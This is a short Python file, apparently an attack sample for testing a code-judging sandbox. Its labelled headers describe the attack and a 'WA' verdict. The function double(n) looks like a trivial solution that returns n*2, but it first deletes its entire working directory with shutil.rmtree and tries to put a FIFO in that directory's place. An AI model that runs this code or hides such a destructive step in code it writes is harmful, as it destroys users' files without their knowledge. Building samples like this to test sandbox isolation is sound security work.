# attack: removes its working folder, and puts a FIFO in its place
# verdict: WA
# sample: yes
# kata: left
import os
import shutil


def double(n):
    here = os.getcwd()
    shutil.rmtree(here, ignore_errors=True)
    try:
        os.mkfifo(here)
    except OSError:
        pass
    return n * 2
